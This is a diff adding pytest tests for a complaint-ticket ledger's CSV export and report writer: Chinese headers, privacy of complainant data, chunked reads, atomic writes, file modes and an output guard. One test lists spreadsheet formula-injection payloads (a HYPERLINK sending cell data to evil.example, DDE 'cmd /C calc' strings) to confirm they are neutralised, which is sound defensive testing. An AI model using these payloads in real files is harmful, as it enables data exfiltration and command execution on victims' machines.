@@ -14,7 +14,7 @@ from sqlalchemy.engine import Engine
 from sqlmodel import select
 
 from ledger.db import session_scope
-from ledger.models import Notification, Ticket
+from ledger.models import Complainant, Message, Notification, Ticket
 from ledger.policy import RankingPolicy
 from reports import charts
 from reports.export import CSV_COLUMNS, export_tickets_csv
@@ -281,3 +281,305 @@ def test_periods() -> None:
     assert last_complete_week(local(2026, 11, 23, 0, 30), tz).key == "2026-W47"
     assert last_complete_month(local(2026, 12, 1, 0, 30), tz).key == "2026-11"
     assert last_complete_month(local(2026, 1, 15), tz).key == "2025-12"
+
+
+# -- the ticket export: Chinese headers, content, formulas, streaming ---------------------
+
+CHINESE_HEADERS = [
+    "编号",
+    "状态",
+    "来源",
+    "标题",
+    "内容",
+    "责任单位",
+    "收到时间",
+    "立项时间",
+    "交办时间",
+    "签收时间",
+    "反馈时间",
+    "核查时间",
+    "归档时间",
+    "时限",
+    "是否超期",
+    "延期天数",
+    "答复内容",
+    "质量评分",
+]
+
+
+def _by_external_id(session, external_id: str) -> tuple[Ticket, Message]:
+    message = session.exec(select(Message).where(Message.external_id == external_id)).one()
+    ticket = session.exec(select(Ticket).where(Ticket.message_id == message.id)).one()
+    return ticket, message
+
+
+def test_export_has_chinese_headers_content_and_replies(built: Engine, tmp_path: Path) -> None:
+    with session_scope(built) as session:
+        t2, m2 = _by_external_id(session, "T2")
+        m2.title = "东湖路路灯不亮"
+        session.add(m2)
+        session.add(Complainant(message_id=m2.id, name="张三丰", contact="13800138000"))
+        number = t2.number
+    path = tmp_path / "督办件.csv"
+    with session_scope(built) as session:
+        count = export_tickets_csv(session, path, rules=scenario.RULES, now=scenario.REPORT_NOW)
+    assert count == 10
+    text = path.read_text(encoding="utf-8-sig")
+    assert "张三丰" not in text and "13800138000" not in text  # no complainant data
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0][: len(CHINESE_HEADERS)] == CHINESE_HEADERS
+    row = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == number), strict=True))
+    assert (row["状态"], row["来源"], row["责任单位"]) == ("已核查", "网民留言", "住建局")
+    assert (row["标题"], row["内容"]) == ("东湖路路灯不亮", "T2 路灯不亮")
+    # every time in office time (北京时间), as an office writes it
+    assert row["收到时间"] == "2026-11-11 10:00"
+    assert row["交办时间"] == "2026-11-11 10:30"
+    assert row["签收时间"] == "2026-11-11 15:00"
+    assert row["反馈时间"] == "2026-11-17 10:00"
+    assert row["核查时间"] == "2026-11-19 10:00"
+    assert (row["时限"], row["是否超期"], row["质量评分"]) == ("2026-11-18", "否", "5")
+    assert row["答复内容"] == "[第1轮 2026-11-17 10:00] 已处理"
+    by_id = {r[rows[0].index("原始编号")]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
+    assert (by_id["T8"]["是否超期"], by_id["T8"]["反馈时间"], by_id["T8"]["答复内容"]) == (
+        "是",
+        "",
+        "",
+    )
+    assert by_id["T4"]["延期天数"] == "3"
+
+
+def test_export_neutralises_formulas(engine: Engine, tmp_path: Path) -> None:
+    from tests.helpers import make_ticket
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    with session_scope(engine) as session:
+        for index, value in enumerate(hostile):
+            ticket = make_ticket(
+                session, scenario.RULES, external_id=value, text=f"{value} 第{index}条"
+            )
+            message = session.get(Message, ticket.message_id)
+            message.title = value
+            session.add(message)
+    for english in (False, True):
+        path = tmp_path / f"tickets-{english}.csv"
+        with session_scope(engine) as session:
+            export_tickets_csv(
+                session, path, rules=scenario.RULES, now=scenario.REPORT_NOW, english=english
+            )
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.reader(handle))
+        header = rows[0]
+        cells = [
+            row[header.index(name)]
+            for row in rows[1:]
+            for name in header
+            if name in ("external_id", "title", "content", "原始编号", "标题", "内容")
+        ]
+        assert len(cells) == 3 * len(hostile)
+        for cell in cells:
+            assert cell.startswith("'"), cell
+        assert {c[1:] for c in cells if not c.endswith("条")} == set(hostile)
+
+
+def test_one_rule_for_formulas_in_csv_and_xlsx() -> None:
+    from openpyxl import Workbook
+
+    from reports.outputs import looks_like_formula, spreadsheet_text
+    from reports.render import _keep_text
+
+    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert looks_like_formula(value) and spreadsheet_text(value) == "'" + value
+        cell = Workbook().active["A1"]
+        cell.value = value
+        _keep_text(cell)
+        assert cell.data_type == "s"
+    for value in ("东湖路", "2026-11-16 09:00", 5, None, ""):
+        assert not looks_like_formula(value) and spreadsheet_text(value) == value
+
+
+def test_export_reads_the_ledger_in_chunks(built: Engine, tmp_path: Path) -> None:
+    """Tickets are read a chunk at a time (keyset pagination), never all at once."""
+    from sqlalchemy import event
+
+    statements: list[str] = []
+
+    def seen(_conn, _cursor, statement, *_args) -> None:
+        if "FROM ticket JOIN message" in statement:
+            statements.append(statement)
+
+    event.listen(built, "before_cursor_execute", seen)
+    try:
+        with session_scope(built) as session:
+            export_tickets_csv(
+                session,
+                tmp_path / "small.csv",
+                rules=scenario.RULES,
+                now=scenario.REPORT_NOW,
+                chunk=3,
+            )
+    finally:
+        event.remove(built, "before_cursor_execute", seen)
+    assert len(statements) == 5  # 3 + 3 + 3 + 1, then an empty chunk
+    assert all("LIMIT" in s.upper() for s in statements)
+    with session_scope(built) as session:
+        export_tickets_csv(
+            session, tmp_path / "big.csv", rules=scenario.RULES, now=scenario.REPORT_NOW
+        )
+    assert (tmp_path / "small.csv").read_bytes() == (tmp_path / "big.csv").read_bytes()
+
+
+def test_a_failed_export_leaves_the_old_file_and_no_part(
+    built: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from reports import export
+
+    folder = tmp_path / "out"
+    folder.mkdir()
+    path = folder / "tickets.csv"
+    path.write_text("old", encoding="utf-8")
+    real = export._record
+    calls = iter(range(100))
+
+    def failing(*args, **kwargs):
+        if next(calls) == 4:
+            raise RuntimeError("disk pulled")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(export, "_record", failing)
+    with session_scope(built) as session, pytest.raises(RuntimeError, match="disk pulled"):
+        export_tickets_csv(session, path, rules=scenario.RULES, now=scenario.REPORT_NOW)
+    assert path.read_text(encoding="utf-8") == "old"
+    assert sorted(p.name for p in folder.iterdir()) == ["tickets.csv"]
+
+
+def test_export_and_reports_file_modes(built: Engine, tmp_path: Path) -> None:
+    import os
+    import stat
+
+    old = os.umask(0)
+    try:
+        with session_scope(built) as session:
+            export_tickets_csv(
+                session, tmp_path / "t.csv", rules=scenario.RULES, now=scenario.REPORT_NOW
+            )
+        written = write_all(weekly(built), tmp_path, "weekly-2026-W47")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "t.csv").stat().st_mode) == 0o600
+    for path in [*written.files.values(), *written.charts]:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+
+
+# -- where outputs may go ------------------------------------------------------------------
+
+
+@pytest.fixture
+def guard_world(tmp_path: Path):
+    from reports.outputs import OutputGuard
+
+    home = tmp_path / "home"
+    (home / "models" / "v1").mkdir(parents=True)
+    data = tmp_path / "data"
+    data.mkdir()
+    (data / "units.yaml").write_text("units: []\n", encoding="utf-8")
+    ledger = home / "duban.db"
+    ledger.write_bytes(b"SQLite format 3\x00")
+
+    def guard(force: bool = False) -> OutputGuard:
+        return OutputGuard.build(
+            ledger_file=ledger,
+            protected_dirs=((home / "models", "模型库目录"), (data, "数据目录")),
+            force=force,
+        )
+
+    return home, data, ledger, guard
+
+
+def test_the_guard_refuses_the_ledger_and_protected_folders(
+    guard_world, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from reports.errors import OutputRefused
+
+    home, data, ledger, guard = guard_world
+    link = tmp_path / "report.csv"
+    link.symlink_to(ledger)
+    dangling = tmp_path / "wal.csv"
+    dangling.symlink_to(home / "duban.db-wal")
+    monkeypatch.chdir(home / "models")
+    refused = {
+        ledger: "台账数据库文件",
+        home / "duban.db-wal": "台账数据库文件",
+        home / "duban.db-shm": "台账数据库文件",
+        link: "台账数据库文件",
+        dangling: "台账数据库文件",
+        Path("../duban.db"): "台账数据库文件",
+        home / "models" / "v1" / "model.joblib": "模型库目录",
+        Path("current"): "模型库目录",
+        home / "models": "模型库目录",
+        data / "units.yaml": "数据目录",
+        data / "new.csv": "数据目录",
+    }
+    for path, why in refused.items():
+        for force in (False, True):
+            with pytest.raises(OutputRefused, match=why) as caught:
+                guard(force).check(path)
+            assert str(path) in str(caught.value) and caught.value.exit_code == 2
+    with pytest.raises(OutputRefused, match="数据目录"):
+        guard(True).check_folder(data)
+
+
+def test_the_guard_refuses_an_existing_file_without_force(guard_world, tmp_path: Path) -> None:
+    from reports.errors import OutputRefused
+
+    _, _, _, guard = guard_world
+    existing = tmp_path / "周报.md"
+    existing.write_text("上周的周报", encoding="utf-8")
+    with pytest.raises(OutputRefused, match=r"已存在.*--force"):
+        guard().check(existing)
+    assert guard(True).check(existing) == existing
+    assert guard().check(tmp_path / "new.md") == tmp_path / "new.md"
+    with pytest.raises(OutputRefused, match="是目录"):
+        guard(True).check(tmp_path)
+
+
+def test_a_refused_report_writes_nothing(built: Engine, guard_world, tmp_path: Path) -> None:
+    from reports.errors import OutputRefused
+
+    _, _, _, guard = guard_world
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "w-trend.png").write_bytes(b"old chart")
+    with pytest.raises(OutputRefused, match=r"w-trend\.png"):
+        write_all(weekly(built), out, "w", guard=guard())
+    assert [p.name for p in out.iterdir()] == ["w-trend.png"]
+    assert (out / "w-trend.png").read_bytes() == b"old chart"
+
+
+def test_atomic_write_never_leaves_half_a_file(tmp_path: Path) -> None:
+    from reports.outputs import atomic_open
+
+    folder = tmp_path / "out"
+    folder.mkdir()
+    target = folder / "report.md"
+    with pytest.raises(ValueError), atomic_open(target) as handle:
+        handle.write("半个文件")
+        raise ValueError("crash midway")
+    assert list(folder.iterdir()) == []
+    target.write_text("完整的旧文件", encoding="utf-8")
+    with pytest.raises(ValueError), atomic_open(target) as handle:
+        handle.write("半个")
+        raise ValueError("crash midway")
+    assert target.read_text(encoding="utf-8") == "完整的旧文件"
+    assert list(folder.iterdir()) == [target]
+    with atomic_open(target) as handle:
+        handle.write("新文件")
+    assert target.read_text(encoding="utf-8") == "新文件"
